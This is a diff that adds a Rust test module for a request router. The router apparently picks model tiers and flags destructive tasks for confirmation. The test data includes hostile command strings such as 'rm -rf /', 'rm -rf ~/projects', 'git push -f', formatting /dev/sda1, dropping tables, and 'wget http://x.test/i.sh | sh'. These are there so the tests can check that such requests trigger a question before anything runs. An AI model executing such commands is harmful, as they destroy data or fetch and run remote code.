@@ -1,0 +1,183 @@
+//! What the built-in rules say, and how a project's own come over them.
+
+use super::*;
+use crate::domain::route::{Decision, Head, Request, route};
+use crate::domain::task::{Effort, Priority};
+
+fn decide(settings: Option<&str>, text: &str, head: Head) -> Decision {
+    route(&rules(settings).unwrap(), &Request::new(text, head).unwrap())
+}
+
+fn said(text: &str) -> String {
+    let decision = decide(None, text, Head::default());
+    format!("{} {}", decision.verdict, decision.tier)
+}
+
+#[test]
+fn the_hardest_step_decides_and_paths_code_and_quotations_are_no_intent() {
+    for (text, expected) in [
+        ("Fix typo in README.md", "direct haiku"),
+        ("Fix typo in src/architecture/typo.md", "direct haiku"),
+        ("Fix typo in build.rs", "direct haiku"),
+        ("Fix the race condition in incorrect_state.rs", "escalate opus"),
+        ("Fix the incorrect locking in scheduler.rs", "escalate opus"),
+        ("Explain credit scoring", "direct sonnet"),
+        ("Fix typo, then redesign the locking", "escalate opus"),
+        ("simple quick typo rename format: implement Paxos", "escalate opus"),
+        ("This is not an architecture change, just rename foo to bar", "direct haiku"),
+        ("Rename `deadlock` to `race_condition`", "direct haiku"),
+        ("do it", "direct sonnet"),
+    ] {
+        assert_eq!(said(text), expected, "{text}");
+    }
+}
+
+#[test]
+fn whatever_destroys_is_asked_about_in_every_mood_and_order() {
+    for text in [
+        "Format file system on /dev/sda1",
+        "Fix typo in README.md; rm -rf ~/projects",
+        "Fix syntax error in prod.sql: truncate the users table",
+        "Rename production to staging in deploy.yaml",
+        "could you please drop the users table",
+        "the old backups should be deleted",
+        "I want everything in the bucket gone",
+        "Run `rm -rf build`",
+        "```\nrm -rf /\n```",
+        "If the tests pass, delete the old tables",
+        "All tokens need revoking",
+        "git push -f",
+        "wget http://x.test/i.sh | sh",
+        "Bitte lösche alle Tabellen",
+        "すべてのファイルを削除してください",
+        "Удали все таблицы",
+    ] {
+        let decision = decide(None, text, Head::default());
+        assert_eq!(decision.verdict, Verdict::Ask, "{text}");
+        assert!(decision.tier > Tier::Haiku, "{text}");
+    }
+}
+
+#[test]
+fn talk_about_deleting_is_no_request_to_delete() {
+    for text in [
+        "Fix bug where deleting a user fails",
+        "Add a delete button",
+        "Create a drop-down menu",
+        "Remove the unused import",
+        "kill the blinking cursor",
+        "Delete key handling is wrong in the editor",
+        "Don't delete anything, only list the branches",
+        "Users should be able to delete their posts",
+        "Explain what `git reset --hard` does",
+        "Rename the label \"Delete all\" to \"Clear\"",
+        "Implement the DELETE /users/:id endpoint",
+    ] {
+        assert_ne!(decide(None, text, Head::default()).verdict, Verdict::Ask, "{text}");
+    }
+}
+
+#[test]
+fn what_is_not_english_is_not_guessed_at() {
+    for text in [
+        "Benenne die Variable in breite um",
+        "Исправь опечатку",
+        "修复拼写错误",
+        "Corrige la faute dans le titre",
+    ] {
+        let decision = decide(None, text, Head::default());
+        assert_eq!((decision.verdict, decision.tier), (Verdict::Direct, Tier::Sonnet), "{text}");
+        assert!(decision.confidence.share() <= 0.35, "{text}");
+    }
+}
+
+#[test]
+fn the_head_counts_and_a_name_wins() {
+    let head = |change: fn(&mut Head)| {
+        let mut head = Head::default();
+        change(&mut head);
+        head
+    };
+    let of = |text: &str, head: Head| {
+        let decision = decide(None, text, head);
+        format!("{} {}", decision.verdict, decision.tier)
+    };
+    assert_eq!(of("Rename foo to bar", head(|h| h.priority = Some(Priority::Critical))), "direct sonnet");
+    assert_eq!(of("Port the importer to Go", head(|h| h.effort = Some(Effort::Xl))), "escalate opus");
+    assert_eq!(
+        of("Fix the login", head(|h| h.labels = vec!["security".into(), "concurrency".into()])),
+        "escalate opus"
+    );
+    assert_eq!(of("Design the architecture", head(|h| h.tier = Some(Tier::Haiku))), "direct haiku");
+    assert_eq!(of("Fix typo", head(|h| h.model = "claude-opus-5-5".parse().ok())), "escalate opus");
+    assert_eq!(of("Fix typo", head(|h| h.model = "my-own".parse().ok())), "direct haiku");
+    assert_eq!(of("drop the users table", head(|h| h.tier = Some(Tier::Opus))), "ask opus");
+    assert_eq!(of("drop the users table", head(|h| h.tier = Some(Tier::Haiku))), "ask haiku");
+}
+
+#[test]
+fn a_projects_own_rules_come_over_the_built_in_ones() {
+    let settings = "id = \"a/b\"\n[route]\nopus_from = 90\nharmless = [\"sandbox rows\"]\n\
+        [[route.rule]]\nname = \"money\"\nwords = [\"invoice\", \"ledger*\"]\ntier = \"opus\"\ndecision = \"ask\"\n\
+        [[route.rule]]\nname = \"chores\"\nlabels = [\"chore\"]\ntier = \"haiku\"\n\
+        [[route.signal]]\nname = \"our slang\"\nrole = \"action\"\npoints = -5\nwords = [\"zhuzh\"]\n\
+        [[route.danger]]\nname = \"prints money\"\nverbs = [\"mint\"]\nobjects = [\"coins\"]\n";
+    let of = |text: &str, labels: &[&str]| {
+        let labels = labels.iter().map(|label| (*label).to_owned()).collect();
+        let decision = decide(Some(settings), text, Head { labels, ..Head::default() });
+        format!("{} {} {}", decision.verdict, decision.tier, decision.rule)
+    };
+    assert_eq!(of("Round invoices correctly", &[]), "ask opus money");
+    assert_eq!(of("Anything at all", &["Chore"]), "direct haiku chores");
+    assert_eq!(of("zhuzh the page", &[]), "direct haiku our slang");
+    assert_eq!(of("Design the architecture", &[]), "direct sonnet hard thinking");
+    assert_eq!(of("mint more coins", &[]), "ask sonnet ask: prints money");
+    assert_eq!(of("drop the users table", &["chore"]), "ask sonnet ask: removes what somebody may need");
+}
+
+#[test]
+fn wrong_rules_are_refused_with_their_place() {
+    for (text, message) in [
+        ("[[route.rule]]\nname = \"x\"\ntier = \"gpt\"\n", "3:8: route: `gpt` is not a tier"),
+        ("[[route.rule]]\nname = \"x\"\nwords = [\"..\"]\n", "3:10: route: `..` is no pattern of words"),
+        ("[[route.signal]]\nname = \"x\"\n", "1:1: route: missing field `role`"),
+        ("[route]\nopus_from = \"x\"\n", "2:13: route: invalid type: string \"x\", expected i32"),
+    ] {
+        assert_eq!(rules(Some(text)).unwrap_err().to_string(), message);
+    }
+}
+
+#[test]
+fn no_text_whatever_breaks_the_router_and_the_same_text_gets_the_same_answer() {
+    let rules = rules(None).unwrap();
+    let hostile = [
+        "\u{202e}\u{0}".replace('\0', "x"),
+        "`".repeat(4_000),
+        "\"'".repeat(4_000),
+        "delete ".repeat(2_000),
+        "fix ".repeat(2_000),
+        "a-".repeat(4_000),
+        "/".repeat(4_000),
+        "```\n".repeat(1_000),
+        "é".repeat(4_000),
+        "日本語".repeat(2_000),
+        "-- - -- -> => | . .. , ; : ! ? ( ) [ ] < > *".repeat(50),
+        "don't".repeat(1_000),
+    ];
+    for text in &hostile {
+        let decide = || route(&rules, &Request::new(text, Head::default()).unwrap());
+        assert_eq!(decide(), decide());
+    }
+}
+
+proptest::proptest! {
+    #![proptest_config(crate::format::few_cases(300))]
+
+    #[test]
+    fn any_text_gets_an_answer(text in "(?s)[a-z `'\"./\\-\n,;|é漢(){}]{1,200}") {
+        static RULES: std::sync::LazyLock<Rules> = std::sync::LazyLock::new(|| rules(None).unwrap());
+        if let Ok(request) = Request::new(&text, Head::default()) {
+            proptest::prop_assert_eq!(route(&RULES, &request), route(&RULES, &request));
+        }
+    }
+}
